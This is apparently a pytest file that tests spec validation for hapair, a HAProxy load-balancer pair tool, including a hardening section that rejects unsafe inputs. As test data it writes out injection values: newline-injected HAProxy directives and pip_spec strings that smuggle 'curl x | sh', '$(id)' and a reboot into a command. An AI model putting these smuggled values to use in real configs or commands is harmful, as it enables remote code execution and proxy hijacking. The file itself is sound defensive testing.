"""The spec: defaults are the seed's values; every invalid field gives its own message."""

from __future__ import annotations

from pathlib import Path

import pytest

from hapair.errors import SpecError
from hapair.plan import make_plan
from hapair.spec import Spec, load, parse, with_overrides


def test_defaults_are_the_seeds() -> None:
    s = Spec()
    assert s.web.size == 3
    assert s.lb.count == 2
    assert s.haproxy.http_port == 80
    assert s.haproxy.https_port == 443
    assert s.ha.port == 694
    assert s.haproxy.stats_port == 9022
    assert s.admin.port == 9023
    assert s.haproxy.balance == "roundrobin"
    assert s.haproxy.cookie == "SERVERID insert indirect nocache"
    assert s.admin.cidrs == ("0.0.0.0/0",)
    assert s.ha.auto_failback is True
    assert s.cluster.platform == "lab"


def test_empty_file_is_the_default(tmp_path: Path) -> None:
    f = tmp_path / "hapair.toml"
    f.write_text("")
    assert load(f) == Spec()


@pytest.mark.parametrize(
    ("data", "message"),
    [
        ({"web": {"size": 0}}, "web.size: must be between 1 and 250 (got 0)"),
        ({"web": {"size": 251}}, "web.size: must be between 1 and 250 (got 251)"),
        (
            {"lb": {"count": 3}},
            'ha.coordinator: "peer" runs exactly 2 LBs (lb.count = 3); set '
            'ha.coordinator = "etcd" for more, or lb.count = 2',
        ),
        ({"web": {"port": 0}}, "web.port: must be between 1 and 65535 (got 0)"),
        ({"ha": {"port": 70000}}, "ha.port: must be between 1 and 65535 (got 70000)"),
        (
            {"web": {"sise": 3}},
            "web.sise: unknown field; see `hapair check --help` and the README's spec reference "
            "for valid fields",
        ),
        (
            {"cluster": {"name": "Demo_1"}},
            "cluster.name: must be 1-8 lowercase letters or digits, starting with a letter "
            "(got 'Demo_1')",
        ),
        (
            {"cluster": {"platform": "gcp"}},
            "cluster.platform: input should be 'lab' or 'aws' (got 'gcp')",
        ),
        (
            {"network": {"vips": ["10.0.0.1", "198.19.255.2"]}},
            "network.vips: must lie in 198.18.0.0/15, the only range the lab uses (got 10.0.0.1)",
        ),
        (
            {"network": {"gateway": "not-an-ip"}},
            "network.gateway: must be an IPv4 address (got 'not-an-ip')",
        ),
        (
            {"ha": {"interval_ms": 200}},
            "ha: need interval_ms < warntime_ms <= deadtime_ms (got 200, 100, 150)",
        ),
        (
            {"ha": {"interval_ms": 80, "warntime_ms": 100, "deadtime_ms": 150}},
            "ha.deadtime_ms: must be at least twice interval_ms (160) so that one lost heartbeat "
            "is not a death (got 150)",
        ),
        (
            {"haproxy": {"balance": "random"}},
            "haproxy.balance: input should be 'roundrobin', 'leastconn', 'source' or 'first' "
            "(got 'random')",
        ),
        (
            {"admin": {"cidrs": ["10.0.0.0/33"]}},
            "admin.cidrs.0: must be an IPv4 network such as 198.18.0.0/23 (got '10.0.0.0/33')",
        ),
    ],
)
def test_each_invalid_field_names_itself(data: dict[str, object], message: str) -> None:
    with pytest.raises(SpecError) as err:
        parse(data)
    assert err.value.problems == [message]


def test_web_nodes_must_fit_the_subnet() -> None:
    with pytest.raises(SpecError) as err:
        parse(
            {
                "network": {
                    "vpc_cidr": "198.18.0.0/24",
                    "gateway": "198.18.0.1",
                    "web_first": "198.18.0.200",
                },
                "web": {"size": 100},
            }
        )
    assert err.value.problems == [
        "web.size: 100 web nodes from network.web_first 198.18.0.200 do not fit in "
        "network.vpc_cidr 198.18.0.0/24"
    ]


def test_not_toml(tmp_path: Path) -> None:
    f = tmp_path / "bad.toml"
    f.write_text("web = [")
    with pytest.raises(SpecError, match="not valid TOML"):
        load(f)


def test_overrides_are_validated() -> None:
    s = with_overrides(Spec(), name="two", web_size=5)
    assert (s.cluster.name, s.web.size) == ("two", 5)
    with pytest.raises(SpecError, match=r"web.size: must be between 1 and 250 \(got 0\)"):
        with_overrides(Spec(), web_size=0)


def test_plan_of_the_default() -> None:
    plan = make_plan(Spec())
    assert [n.name for n in plan.lbs] == ["lb1", "lb2"]
    assert [n.address for n in plan.webs] == ["198.18.1.1", "198.18.1.2", "198.18.1.3"]
    assert [(v.name, v.home) for v in plan.vips] == [("vip1", "lb1"), ("vip2", "lb2")]
    assert plan.node("lb1").secondary == "198.18.0.111"
    assert plan.peer_of("lb1").name == "lb2"
    assert plan.ping_nodes == ("198.18.0.1",)
    assert plan.node("web3").namespace == "demo-web3"
    assert plan.namespaces[0] == "demo-vpc"


def test_plan_of_250_web_nodes_stays_in_the_lab_range() -> None:
    plan = make_plan(parse({"web": {"size": 250}}))
    assert plan.webs[-1].address == "198.18.1.250"


# ---------------------------------------------------------------------------- hardening (issue 8)

CHECK_PATH_FIX = (
    "haproxy.check_path: must be an absolute URL path such as /health: '/' then letters, digits, "
    "- . _ ~ ! & ( ) * + , ; = : @ / or %XX escapes, and an optional ?query (no spaces, quotes, "
    "'#', '$' or '\\')"
)
STATS_USER_FIX = (
    "haproxy.stats_user: must be 1-64 printable ASCII characters without spaces, quotes, '\\', "
    "'#' or ':', such as admin (`stats auth user:password`)"
)
STATS_PASSWORD_FIX = (
    "haproxy.stats_password: must be 1-128 printable ASCII characters without spaces, quotes, "
    "'\\' or '#' (':' is fine), or empty for a random one"
)
COOKIE_NAME_FIX = (
    "haproxy.cookie: must start with a cookie name of letters, digits, '_', '.' or '-', then "
    "HAProxy's cookie options, such as SERVERID insert indirect nocache"
)
CERT_FIX = (
    "haproxy.cert: must be an absolute path of letters, digits and . _ + - / such as "
    "/etc/hapair/site.pem, or empty for a self-signed certificate"
)
PIP_FIX = (
    "aws.pip_spec: must be what `pip install` takes, such as hapair==0.1.0, a URL or a path: "
    "letters, digits, single spaces between words and . _ + - = < > ! ~ , @ / : [ ] % ? # & * "
    "only"
)
CLASH = "an LB node serves one thing per TCP port; pick another port"
SSH = "SSH has it and the security groups open it to more sources; pick another port (got 22)"
OPEN_443 = (
    "the LB security group opens it to everyone (the original's rule), bypassing admin.cidrs; "
    "pick another port (got 443)"
)
DISTINCT = "every lab address is distinct"


@pytest.mark.parametrize(
    ("data", "message"),
    [
        # Strings that reach a config: no control characters, and only what fits there.
        (
            {"haproxy": {"check_path": "/health\nlisten evil"}},
            "haproxy.check_path: must not contain control characters such as newlines "
            "(got '/health\\nlisten evil')",
        ),
        ({"haproxy": {"check_path": "health"}}, f"{CHECK_PATH_FIX} (got 'health')"),
        ({"haproxy": {"check_path": "/a b"}}, f"{CHECK_PATH_FIX} (got '/a b')"),
        ({"haproxy": {"check_path": "/a#b"}}, f"{CHECK_PATH_FIX} (got '/a#b')"),
        ({"haproxy": {"check_path": "/%zz"}}, f"{CHECK_PATH_FIX} (got '/%zz')"),
        ({"haproxy": {"stats_user": "ad:min"}}, f"{STATS_USER_FIX} (got 'ad:min')"),
        ({"haproxy": {"stats_user": ""}}, f"{STATS_USER_FIX} (got '')"),
        ({"haproxy": {"stats_user": "ad min"}}, f"{STATS_USER_FIX} (got 'ad min')"),
        ({"haproxy": {"stats_password": "p#w"}}, f"{STATS_PASSWORD_FIX} (got 'p#w')"),
        ({"haproxy": {"stats_password": 'p"w'}}, f"{STATS_PASSWORD_FIX} (got 'p\"w')"),
        (
            {"haproxy": {"stats_password": "pw\n    stats admin if TRUE"}},
            "haproxy.stats_password: must not contain control characters such as newlines "
            "(got 'pw\\n    stats admin if TRUE')",
        ),
        (
            {"haproxy": {"cookie": "SERVERID insert\n    server evil 10.0.0.1:80"}},
            "haproxy.cookie: must not contain control characters such as newlines "
            "(got 'SERVERID insert\\n    server evil 10.0.0.1:80')",
        ),
        ({"haproxy": {"cookie": ""}}, f"{COOKIE_NAME_FIX} (got '')"),
        (
            {"haproxy": {"cookie": "SERVER;ID insert"}},
            f"{COOKIE_NAME_FIX} (got 'SERVER;ID insert')",
        ),
        (
            {"haproxy": {"cookie": "SERVERID insert sticky"}},
            "haproxy.cookie: has unknown option 'sticky'; HAProxy's cookie options are rewrite, "
            "insert, prefix, indirect, nocache, postonly, preserve, httponly, secure, dynamic, "
            "domain, maxidle, maxlife, attr (got 'SERVERID insert sticky')",
        ),
        (
            {"haproxy": {"cookie": "SERVERID insert prefix"}},
            "haproxy.cookie: may use only one of rewrite, insert and prefix "
            "(got 'SERVERID insert prefix')",
        ),
        (
            {"haproxy": {"cookie": "SERVERID rewrite indirect"}},
            "haproxy.cookie: may not use 'indirect' with 'rewrite', as HAProxy refuses "
            "(got 'SERVERID rewrite indirect')",
        ),
        (
            {"haproxy": {"cookie": "SERVERID preserve"}},
            "haproxy.cookie: needs 'insert' or 'indirect' with 'preserve', as HAProxy does "
            "(got 'SERVERID preserve')",
        ),
        (
            {"haproxy": {"cookie": "SERVERID insert nocache nocache"}},
            "haproxy.cookie: names 'nocache' twice; give each option once "
            "(got 'SERVERID insert nocache nocache')",
        ),
        (
            {"haproxy": {"cookie": "SERVERID insert maxidle 30x"}},
            "haproxy.cookie: needs a time such as 30m (us, ms, s, m, h or d) after 'maxidle' "
            "(got 'SERVERID insert maxidle 30x')",
        ),
        (
            {"haproxy": {"cookie": "SERVERID insert attr"}},
            "haproxy.cookie: needs letters, digits and _ . = - such as SameSite=Strict after "
            "'attr' (got 'SERVERID insert attr')",
        ),
        ({"haproxy": {"cert": "site.pem"}}, f"{CERT_FIX} (got 'site.pem')"),
        ({"haproxy": {"cert": "/etc/my site.pem"}}, f"{CERT_FIX} (got '/etc/my site.pem')"),
        (
            {"cluster": {"domain": "www.hapair.test\n"}},
            "cluster.domain: must not contain control characters such as newlines "
            "(got 'www.hapair.test\\n')",
        ),
        (
            {"cluster": {"domain": "www.hapair.test 10.0.0.1"}},
            "cluster.domain: must be a DNS name such as www.hapair.test "
            "(got 'www.hapair.test 10.0.0.1')",
        ),
        (
            {"cluster": {"name": "demo\n"}},
            "cluster.name: must not contain control characters such as newlines (got 'demo\\n')",
        ),
        (
            {"aws": {"pip_spec": 'hapair" ; curl x | sh ; "'}},
            f"{PIP_FIX} (got 'hapair\" ; curl x | sh ; \"')",
        ),
        ({"aws": {"pip_spec": "hapair==$(id)"}}, f"{PIP_FIX} (got 'hapair==$(id)')"),
        (
            {"aws": {"pip_spec": "hapair\n  - [reboot]"}},
            "aws.pip_spec: must not contain control characters such as newlines "
            "(got 'hapair\\n  - [reboot]')",
        ),
        (
            {"aws": {"region": "moon-1"}},
            "aws.region: must be an AWS region such as eu-west-1, or empty for the standard AWS "
            "configuration's (got 'moon-1')",
        ),
        (
            {"aws": {"ami": "ami-0123 x"}},
            "aws.ami: must be an AMI id such as ami-0123456789abcdef0, or empty (got 'ami-0123 x')",
        ),
        (
            {"aws": {"key_name": "key\r"}},
            "aws.key_name: must not contain control characters such as newlines (got 'key\\r')",
        ),
        (
            {"aws": {"lb_instance_type": "t3 small"}},
            "aws.lb_instance_type: must be an EC2 instance type such as t3.small (got 't3 small')",
        ),
        # Ports of one node do not clash (ha.port is UDP: it may share a number with TCP).
        (
            {"admin": {"port": 80}},
            f"admin.port: must differ from haproxy.http_port (both 80): {CLASH}",
        ),
        (
            {"haproxy": {"stats_port": 80}},
            f"haproxy.stats_port: must differ from haproxy.http_port (both 80): {CLASH}",
        ),
        (
            {"haproxy": {"https": True, "https_port": 80}},
            f"haproxy.https_port: must differ from haproxy.http_port (both 80): {CLASH}",
        ),
        (
            {"haproxy": {"stats_port": 9023}},
            f"admin.port: must differ from haproxy.stats_port (both 9023): {CLASH}",
        ),
        ({"haproxy": {"http_port": 22}}, f"haproxy.http_port: must not be 22: {SSH}"),
        ({"web": {"port": 22}}, f"web.port: must not be 22: {SSH}"),
        ({"haproxy": {"stats_port": 443}}, f"haproxy.stats_port: must not be 443: {OPEN_443}"),
        ({"admin": {"port": 443}}, f"admin.port: must not be 443: {OPEN_443}"),
        # Integers and booleans are strict.
        (
            {"web": {"size": True}},
            "web.size: must be an integer between 1 and 250, not a boolean (got True)",
        ),
        (
            {"web": {"port": "80"}},
            "web.port: must be an integer between 1 and 65535, not a string (got '80')",
        ),
        (
            {"haproxy": {"http_port": 80.0}},
            "haproxy.http_port: must be an integer between 1 and 65535, not a decimal number "
            "(got 80.0)",
        ),
        (
            {"lb": {"count": "2"}},
            "lb.count: must be an integer between 2 and 16, not a string (got '2')",
        ),
        ({"haproxy": {"https": 1}}, "haproxy.https: must be true or false, not an integer (got 1)"),
        (
            {"haproxy": {"https": "yes"}},
            "haproxy.https: must be true or false, not a string (got 'yes')",
        ),
        (
            {"ha": {"auto_failback": 0}},
            "ha.auto_failback: must be true or false, not an integer (got 0)",
        ),
        # Every lab address is distinct and usable.
        (
            {"network": {"dns": "198.19.0.10"}},
            f"network.dns: must differ from network.client (both 198.19.0.10); {DISTINCT}",
        ),
        (
            {"network": {"igw_outside": "198.19.0.53"}},
            f"network.dns: must differ from network.igw_outside (both 198.19.0.53); {DISTINCT}",
        ),
        (
            {"network": {"vips": ["198.19.255.1", "198.19.255.1"]}},
            f"network.vips.1: must differ from network.vips.0 (both 198.19.255.1); {DISTINCT}",
        ),
        (
            {"network": {"lb_secondary": ["198.18.0.12", "198.18.0.112"]}},
            "network.lb_secondary.0: must differ from network.lb_primary.1 (both 198.18.0.12); "
            f"{DISTINCT}",
        ),
        (
            {"network": {"gateway": "198.18.0.0"}},
            "network.gateway: must not be the network or broadcast address of network.vpc_cidr "
            "198.18.0.0/23 (got 198.18.0.0)",
        ),
        (
            {"network": {"client": "198.19.0.255"}},
            "network.client: must not be the network or broadcast address of "
            "network.internet_cidr 198.19.0.0/24 (got 198.19.0.255)",
        ),
        # Ping nodes: inside the lab's range and the VPC, and not an LB's own address.
        (
            {"ha": {"ping_nodes": ["8.8.8.8"]}},
            "ha.ping_nodes.0: must lie in 198.18.0.0/15, the only range the lab uses (got 8.8.8.8)",
        ),
        (
            {"ha": {"ping_nodes": ["198.18.0.1", "198.19.0.10"]}},
            "ha.ping_nodes.1: must lie in network.vpc_cidr 198.18.0.0/23, the side the agents "
            "ping from (got 198.19.0.10)",
        ),
        (
            {"ha": {"ping_nodes": ["198.18.0.12"]}},
            "ha.ping_nodes.0: must not be an LB's own address (network.lb_primary.1): a node "
            "always reaches itself; use the gateway or another node (got 198.18.0.12)",
        ),
        (
            {"ha": {"ping_nodes": ["198.18.1.255"]}},
            "ha.ping_nodes.0: must not be the network or broadcast address of network.vpc_cidr "
            "198.18.0.0/23 (got 198.18.1.255)",
        ),
        # Admin sources render into an nftables interval set.
        (
            {"admin": {"cidrs": []}},
            "admin.cidrs: must list at least one network; 0.0.0.0/0 allows everyone (got [])",
        ),
        (
            {"admin": {"cidrs": ["10.0.0.0/8", "10.1.0.0/16"]}},
            "admin.cidrs: must not overlap, as nftables refuses overlapping intervals: "
            "10.1.0.0/16 overlaps 10.0.0.0/8; keep the wider one "
            "(got ['10.0.0.0/8', '10.1.0.0/16'])",
        ),
        (
            {"admin": {"cidrs": ["192.0.2.0/24", "192.0.2.0/24"]}},
            "admin.cidrs: must list each network once: 192.0.2.0/24 is listed twice "
            "(got ['192.0.2.0/24', '192.0.2.0/24'])",
        ),
    ],
)
def test_each_unsafe_value_is_refused(data: dict[str, object], message: str) -> None:
    with pytest.raises(SpecError) as err:
        parse(data)
    assert err.value.problems == [message]


@pytest.mark.parametrize(
    "data",
    [
        {"ha": {"port": 80}},  # UDP heartbeats may share the number of a TCP port
        {"web": {"port": 80}},  # web.port is on the web nodes, not the LBs
        {"haproxy": {"https": False, "https_port": 80}},  # no HTTPS: https_port is not bound
        {"haproxy": {"http_port": 443}},  # plain HTTP on 443 when HTTPS is off
        {"ha": {"ping_nodes": ["198.18.1.1", "198.18.0.1"]}},  # a web node and the gateway
        {"admin": {"cidrs": ["203.0.113.0/24", "10.0.0.0/8"]}},  # a source filter: anywhere
        {"cluster": {"platform": "aws"}, "ha": {"ping_nodes": ["8.8.8.8"]}},  # lab rules only
        {"haproxy": {"stats_password": "p:w$x{}!%&*()[]<>?/,.;|~^=+-_@", "stats_user": "a.b-c"}},
        {"haproxy": {"cookie": "JSESSIONID prefix nocache domain .hapair.test"}},
        {
            "haproxy": {
                "cookie": "S insert httponly secure maxidle 30m maxlife 8h attr SameSite=Lax"
            }
        },
        {"haproxy": {"check_path": "/health/ready?probe=lb&x=%20;y"}},
        {
            "aws": {
                "region": "us-gov-west-1",
                "ami": "ami-0123456789abcdef0",
                "key_name": "my key (ops)",
                "lb_instance_type": "c7i-flex.large",
                "pip_spec": "hapair[bench] @ git+https://example.com/hapair.git#egg=hapair",
            }
        },
    ],
)
def test_safe_values_are_accepted(data: dict[str, object]) -> None:
    parse(data)


def test_a_missing_certificate_is_refused_on_the_lab(tmp_path: Path) -> None:
    missing = tmp_path / "none.pem"
    with pytest.raises(SpecError) as err:
        parse({"haproxy": {"https": True, "cert": str(missing)}})
    assert err.value.problems == [f"haproxy.cert: file not found: {missing}"]


def test_toml_booleans_and_floats_are_not_integers(tmp_path: Path) -> None:
    f = tmp_path / "hapair.toml"
    f.write_text("[web]\nsize = true\nport = 8080.0\n")
    with pytest.raises(SpecError) as err:
        load(f)
    assert err.value.problems == [
        "web.size: must be an integer between 1 and 250, not a boolean (got True)",
        "web.port: must be an integer between 1 and 65535, not a decimal number (got 8080.0)",
    ]
